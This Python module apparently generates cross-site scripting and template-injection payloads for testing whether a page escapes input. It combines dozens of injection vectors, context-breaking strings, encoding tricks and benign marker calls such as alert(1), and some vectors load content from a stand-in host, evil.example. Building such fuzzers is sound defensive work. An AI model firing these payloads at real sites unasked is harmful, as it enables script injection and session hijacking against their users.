"""Texts that become markup, script or attributes where a page does not escape them."""

import random
from collections.abc import Iterator

VECTORS = (
    "<script>{0}</script>",
    "<img src=x onerror={0}>",
    "<svg/onload={0}>",
    "<svg><script>{0}</script></svg>",
    "<x-hit onclick={0}>",
    "<iframe srcdoc='<script>{0}</script>'></iframe>",
    "<iframe src=javascript:{0}>",
    "<a href=javascript:{0}>x</a>",
    "<form action=javascript:{0}><button>x</button></form>",
    "<details open ontoggle={0}>x</details>",
    "<input autofocus onfocus={0}>",
    "<body onload={0}>",
    "<object data=javascript:{0}>",
    "<embed src=javascript:{0}>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:{0}'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<math><mtext><table><mglyph><style><img src=x onerror={0}>",
    "<template><img src=x onerror={0}></template>",
    "<div hx-get=/changes/reload hx-trigger=load>x</div>",
    "<div data-hx-on:load={0}>x</div>",
    "{{{{7*7}}}}{{% raw %}}",
    "${{7*7}}#{{7*7}}",
    "javascript:{0}",
    "data:text/html,<script>{0}</script>",
)
PLAIN_BREAKS = """
" ' ` "> '> --> ]]> </title> </textarea> </script> </style> </td></tr></table> </pre>
</option></select> "/> \\ \\' &quot;> %22%3E
"""
BREAKS = (
    *("", *PLAIN_BREAKS.split(), "\n", "\r\ndata: ", "\n\nevent: rows\ndata: "),
    *("\u2028", "\u202e", "\x00", "\x1b[2J", "\ufeff"),
)
CALLS = (
    "alert(1)",
    "alert`1`",
    "top.hit=1",
    "alert&lpar;1&rpar;",
    "\\u0061lert(1)",
    "eval('hit=1')",
)
CHANGES = (
    lambda text: text,
    str.swapcase,
    lambda text: text.replace("<", "&lt;").replace(">", "&gt;"),
    lambda text: text.replace("<", "%3C").replace(">", "%3E"),
    lambda text: text.replace("<", "\uff1c").replace(">", "\uff1e"),
    lambda text: text.replace("<", "\\u003c").replace(">", "\\u003e"),
    lambda text: text.replace(" ", "/"),
    lambda text: text.replace(" ", "\t"),
    lambda text: text * 3,
)


def payloads(count: int) -> Iterator[str]:
    """Yield different texts, the same ones each time."""
    chance = random.Random(16)
    known: set[str] = set()
    while len(known) < count:
        vector = chance.choice(VECTORS).format(chance.choice(CALLS))
        text = chance.choice(CHANGES)(chance.choice(BREAKS) + vector) + chance.choice(BREAKS)
        if text not in known:
            known.add(text)
            yield text
